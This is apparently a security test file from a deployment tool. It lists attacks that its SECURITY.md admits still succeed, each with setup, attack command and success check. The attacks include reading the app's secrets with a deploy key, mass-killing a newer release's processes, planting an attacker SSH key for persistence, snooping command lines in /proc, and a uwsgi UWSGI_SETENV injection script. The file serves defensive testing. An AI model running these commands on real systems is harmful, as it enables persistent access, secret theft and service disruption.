import type { Attack } from "../attack.ts";

const group = "not defended";

/** What SECURITY.md says is open: each of these succeeds, and the page has to change on the day when one does not. */
export const open: readonly Attack[] = [
  {
    ...{ group, name: "read the own app's environment with its deploy key", who: "key" },
    do: "tool exec current pipe env",
    took: 'grep -q shop-secret "$SAID"',
  },
  {
    ...{ group, name: "end the processes of a newer release of the same app", who: "app" },
    before:
      'cp -a "/srv/$APP/releases/$ID" "/srv/$APP/releases/$NEW"; "$TOOL" start "$NEW"; systemctl show -P MainPID "$APP@$NEW" >/root/main',
    // It does not see them, but a number is all it takes.
    do: 'm=$(sed -n "s/^PPid:[^0-9]*//p" /proc/$PPID/status); for pid in $(seq 2 $(($$ - 1))); do [ $pid = $PPID ] || [ $pid = "$m" ] || kill -9 $pid; done 2>/dev/null; sleep 0.5',
    took: '[ "$(systemctl show -P MainPID "$APP@$NEW")" != "$(cat /root/main)" ]',
  },
  {
    ...{ group, name: "keep a key of its own after the stolen one is removed", who: "key" },
    do: "cp .ssh/authorized_keys kept; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEb7M0R6uMSfVQnVzcVqBcCxVVTQ1FvLHw6nhmOBbh0b mallory' >>.ssh/authorized_keys",
    took: 'grep -q mallory "$(getent passwd "$LOGIN" | cut -d: -f6)/.ssh/authorized_keys"',
    after: 'h=$(getent passwd "$LOGIN" | cut -d: -f6); cat "$h/kept" >"$h/.ssh/authorized_keys"; rm "$h/kept"',
  },
  {
    ...{ group, name: "read the command that a person gives `exec`, in the list of processes", who: "local user" },
    before: `(sleep 0.2; "$TOOL" exec current pipe 'sleep 3; echo word-of-the-command') >/dev/null 2>&1 &`,
    do: "sleep 1.5; grep -ahs word-of-the /proc/[0-9]*/cmdline | tr '\\0' ' ' | grep -v authorized",
    took: 'grep -qa word-of-the-command "$SAID"',
    after: "sleep 3",
  },
];

/** The same where uWSGI is reached over TCP. */
export const openOverTcp: readonly Attack[] = [
  {
    ...{ group, name: "set an environment variable of a uWSGI worker over TCP: UWSGI_SETENV", who: "local user" },
    do: `python3 - <<'P'
import socket, struct
body = b""
for name, value in {"REQUEST_METHOD": "GET", "PATH_INFO": "/", "UWSGI_SETENV": "EVIL=yes"}.items():
    body += struct.pack("<H", len(name)) + name.encode() + struct.pack("<H", len(value)) + value.encode()
for n in range(20):
    s = socket.create_connection(("127.0.0.1", 8080), 5)
    s.sendall(struct.pack("<BHB", 0, len(body), 0) + body)
    print(s.recv(4096))
P`,
    took: "curl -s -H 'Host: shop.example.org' --data-binary env http://127.0.0.1/sh | grep -q ^EVIL=yes",
  },
];
